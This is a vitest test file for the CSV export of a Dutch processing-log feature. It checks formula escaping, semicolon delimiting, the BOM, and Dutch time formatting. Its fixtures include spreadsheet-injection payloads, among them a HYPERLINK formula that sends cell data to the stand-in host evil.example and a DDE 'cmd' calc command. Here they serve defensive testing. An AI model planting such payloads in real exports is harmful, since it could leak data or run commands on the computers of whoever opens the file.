import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_FORMULA_START, cellDateTime, spreadsheetCsv } from './csv';
import { logToCsv } from '@/features/verwerkingen/model/export';
import type { LogEvent } from '@/features/verwerkingen/model/log';

const cell = (value: string, escapeFormulae: boolean | RegExp) =>
  Papa.unparse([{ v: value }], { columns: ['v'], escapeFormulae, header: false });

const labels = {
  language: 'nl',
  headers: {
    datum: 'Datum en tijd',
    organisatie: 'Organisatie',
    ontvanger: 'Aan wie',
    handeling: 'Wat',
    doel: 'Doel',
    grondslag: 'Wet',
    gegevens: 'Gegevens',
    bron: 'Registratie',
    hoe: 'Door wie',
    verstrekking: 'Soort',
    kenmerk: 'Kenmerk',
  },
  human: (h: boolean | undefined) => (h === undefined ? 'Niet bekend' : h ? 'Een medewerker' : 'Automatisch'),
  provision: (p: string) => `label:${p}`,
  category: (c: string) => c,
};

describe('CSV formula escaping (issue 17, finding 7)', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")\n',
    '=1+1\r\nnog een regel',
    "\r=cmd|' /C calc'!A0",
    '\t=1+1',
    '+31 6 12345678',
    '-2+3',
    '@SUM(1,1)',
    '=HYPERLINK("x")',
  ];

  it.each(formulas)('puts a quote before %j', (value) => {
    expect(Papa.parse<string[]>(cell(value, CSV_FORMULA_START)).data[0]?.[0]).toBe(`'${value}`);
  });

  it('papaparse’s own default misses a formula followed by a line break (why the pattern exists)', () => {
    expect(Papa.parse<string[]>(cell(formulas[0]!, true)).data[0]?.[0]).toBe(formulas[0]);
  });

  it.each(['Rotterdam', '2026-11-28', 'a=b', ' =1', 'Zoë'])('leaves %j alone', (value) => {
    expect(Papa.parse<string[]>(cell(value, CSV_FORMULA_START)).data[0]?.[0]).toBe(value);
  });

  it('the processing-log export escapes such a value', () => {
    const event = {
      start: Date.UTC(2026, 10, 28),
      organisation: '=HYPERLINK("https://evil.example","x")\n',
      recipient: undefined,
      action: 'a',
      purpose: 'p',
      legalBasis: 'g',
      categories: [],
      human: false,
      provision: 'n',
      traceId: 't',
      spanId: 's',
    } as unknown as LogEvent;
    const rows = Papa.parse<string[]>(logToCsv([event], () => 'BRP', labels).replace(/^\uFEFF/, ''), {
      delimiter: ';',
    }).data;
    expect(rows[1]?.[1]).toBe(`'=HYPERLINK("https://evil.example","x")\n`);
  });
});

describe('a CSV a citizen can open in Dutch Excel (issue 19)', () => {
  it('splits on semicolons, starts with a BOM and heads columns with words', () => {
    const csv = spreadsheetCsv(
      [
        { key: 'a', header: 'Wat er gebeurde' },
        { key: 'b', header: 'Waarde' },
      ],
      [{ a: 'Opgevraagd; door RDW', b: '1,5' }],
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual(['Wat er gebeurde;Waarde', '"Opgevraagd; door RDW";1,5']);
  });

  it("writes the time in Dutch time, as the page shows it, whatever the computer's zone", () => {
    expect(cellDateTime(Date.UTC(2026, 10, 28, 9, 5), 'nl')).toBe('28-11-2026 10:05'); // winter: UTC+1
    expect(cellDateTime(Date.UTC(2026, 6, 1, 22, 30), 'nl')).toBe('02-07-2026 00:30'); // summer: UTC+2, next day
    expect(cellDateTime(Date.UTC(2026, 10, 28, 9, 5), 'en')).toBe('28/11/2026 10:05');
  });

  it('the log export uses labels, not codes', () => {
    const event = {
      start: Date.UTC(2026, 10, 28, 9),
      organisation: 'RDW',
      recipient: undefined,
      action: 'Opgevraagd',
      purpose: 'p',
      legalBasis: 'g',
      categories: ['Adres', 'Naam'],
      human: undefined,
      provision: 'adhoc',
      traceId: '11111111-1111-1111-1111-111111111111',
      spanId: '2222222222222222',
    } as unknown as LogEvent;
    const [header, row] = Papa.parse<string[]>(logToCsv([event], () => 'BRP', labels).slice(1), {
      delimiter: ';',
    }).data;
    expect(header).toEqual(Object.values(labels.headers));
    expect(row).toEqual([
      '28-11-2026 10:00',
      'RDW',
      '',
      'Opgevraagd',
      'p',
      'g',
      'Adres, Naam',
      'BRP',
      'Niet bekend',
      'label:adhoc',
      '11111111-1111-1111-1111-111111111111_2222222222222222',
    ]);
  });
});
